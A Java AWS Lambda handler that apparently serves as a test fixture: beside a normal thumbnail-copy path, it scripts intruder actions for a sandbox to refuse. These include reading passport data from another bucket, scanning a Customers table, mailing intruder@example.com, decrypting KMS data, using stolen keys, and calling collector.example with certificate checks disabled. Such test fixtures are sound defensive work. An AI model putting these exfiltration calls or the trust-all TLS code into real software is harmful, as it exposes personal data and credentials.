import com.amazonaws.services.lambda.runtime.Context;
import com.amazonaws.services.lambda.runtime.RequestHandler;
import java.net.URI;
import java.security.MessageDigest;
import java.security.cert.X509Certificate;
import java.util.Base64;
import java.util.HashMap;
import java.util.HexFormat;
import java.util.Map;
import javax.net.ssl.HttpsURLConnection;
import javax.net.ssl.SSLContext;
import javax.net.ssl.SSLSocketFactory;
import javax.net.ssl.TrustManager;
import javax.net.ssl.X509TrustManager;
import software.amazon.awssdk.auth.credentials.AwsBasicCredentials;
import software.amazon.awssdk.auth.credentials.StaticCredentialsProvider;
import software.amazon.awssdk.awscore.exception.AwsServiceException;
import software.amazon.awssdk.core.SdkBytes;
import software.amazon.awssdk.core.sync.RequestBody;
import software.amazon.awssdk.http.SdkHttpClient;
import software.amazon.awssdk.http.apache.ApacheHttpClient;
import software.amazon.awssdk.services.dynamodb.DynamoDbClient;
import software.amazon.awssdk.services.dynamodb.model.AttributeValue;
import software.amazon.awssdk.services.kinesis.KinesisClient;
import software.amazon.awssdk.services.kms.KmsClient;
import software.amazon.awssdk.services.s3.S3Client;
import software.amazon.awssdk.services.ses.SesClient;
import software.amazon.awssdk.services.sqs.SqsClient;

/** The function of every story here, with the AWS SDK for Java 2: {"do": "work", "key", "size"} is its job, all else is what an intruder makes it do. */
public class App implements RequestHandler<Map<String, Object>, Map<String, Object>> {
  private final SdkHttpClient http = ApacheHttpClient.create();
  private final S3Client s3 = S3Client.builder().httpClient(http).build();
  private final DynamoDbClient dynamodb = DynamoDbClient.builder().httpClient(http).build();
  private final SqsClient sqs = SqsClient.builder().httpClient(http).build();

  @Override
  public Map<String, Object> handleRequest(Map<String, Object> event, Context context) {
    Map<String, Object> answer = new HashMap<>();
    // Lambda's runtime has it from Lambda; the emulator keeps it to itself.
    if (event.get("trace") != null) System.setProperty("com.amazonaws.xray.traceHeader", (String) event.get("trace"));
    try {
      if (event.get("do").equals("work")) return work((String) event.get("key"), (int) event.get("size"));
      answer.put("result", attack(event));
    } catch (AwsServiceException error) {
      System.out.println(event.get("do") + ": " + error.getMessage());
      answer.put("error", error.awsErrorDetails().errorCode());
      answer.put("status", error.statusCode());
      answer.put("attempts", error.numAttempts());
    } catch (Exception error) {
      System.out.println(event.get("do") + ": " + error);
      answer.put("error", error.getClass().getSimpleName());
      answer.put("code", "refused");
    }
    return answer;
  }

  private Map<String, Object> work(String key, int size) throws Exception {
    byte[] read = s3.getObjectAsBytes(r -> r.bucket("photo-uploads").key(key)).asByteArray();
    byte[] body = new byte[size];
    for (int i = 0; i < size; i++) body[i] = read[i % read.length];
    s3.putObject(r -> r.bucket("photo-thumbnails").key(key), RequestBody.fromBytes(body));
    Map<String, AttributeValue> item = Map.of("image", AttributeValue.fromS(key), "size", AttributeValue.fromN("" + size));
    dynamodb.putItem(r -> r.tableName("Images").item(item));
    sqs.sendMessage(r -> r.queueUrl(System.getenv("QUEUE")).messageBody("{\"key\":\"" + key + "\"}"));
    return Map.of("read", HexFormat.of().formatHex(MessageDigest.getInstance("SHA-256").digest(read)), "written", size);
  }

  private static SSLSocketFactory trustingAll() throws Exception {
    TrustManager all =
        new X509TrustManager() {
          @Override
          public void checkClientTrusted(X509Certificate[] chain, String type) {}

          @Override
          public void checkServerTrusted(X509Certificate[] chain, String type) {}

          @Override
          public X509Certificate[] getAcceptedIssuers() {
            return new X509Certificate[0];
          }
        };
    SSLContext context = SSLContext.getInstance("TLS");
    context.init(null, new TrustManager[] {all}, null);
    return context.getSocketFactory();
  }

  private Object attack(Map<String, Object> event) throws Exception {
    switch ((String) event.get("do")) {
      case "other-bucket":
        return s3.getObjectAsBytes(r -> r.bucket("identity-documents").key("passports/1043")).asUtf8String();
      case "scan-table":
        return dynamodb.scan(r -> r.tableName("Customers")).count();
      case "send-mail":
        return SesClient.builder()
            .httpClient(http)
            .build()
            .sendEmail(
                r ->
                    r.source("shop@example.com")
                        .destination(d -> d.toAddresses("intruder@example.com"))
                        .message(m -> m.subject(s -> s.data("x")).body(b -> b.text(t -> t.data("body-marker-mail")))))
            .messageId();
      case "foreign-key":
        SdkBytes ciphertext = SdkBytes.fromByteArray(Base64.getDecoder().decode(System.getenv("CIPHERTEXT")));
        return KmsClient.builder().httpClient(http).build().decrypt(r -> r.ciphertextBlob(ciphertext)).plaintext().asUtf8String();
      case "stream":
        return KinesisClient.builder()
            .httpClient(http)
            .build()
            .putRecord(r -> r.streamName("clicks").partitionKey("1").data(SdkBytes.fromUtf8String("body-marker-stream")))
            .sequenceNumber();
      case "own-credentials":
        AwsBasicCredentials keys = AwsBasicCredentials.create((String) event.get("accessKeyId"), (String) event.get("secretAccessKey"));
        return S3Client.builder()
            .httpClient(http)
            .credentialsProvider(StaticCredentialsProvider.create(keys))
            .build()
            .putObject(r -> r.bucket("photo-thumbnails").key("stolen"), RequestBody.fromString("body-marker-stolen"))
            .eTag();
      case "large-upload":
        String text = "body-marker-large ".repeat(4 * 1024 * 1024 / 18);
        return s3.putObject(r -> r.bucket("holiday-pictures").key("x"), RequestBody.fromString(text)).eTag();
      case "unknown-host":
        HttpsURLConnection connection = (HttpsURLConnection) URI.create("https://collector.example/collect").toURL().openConnection();
        connection.setSSLSocketFactory(trustingAll());
        connection.setHostnameVerifier((host, session) -> true);
        return connection.getResponseCode();
      default:
        throw new IllegalArgumentException("no such work");
    }
  }
}
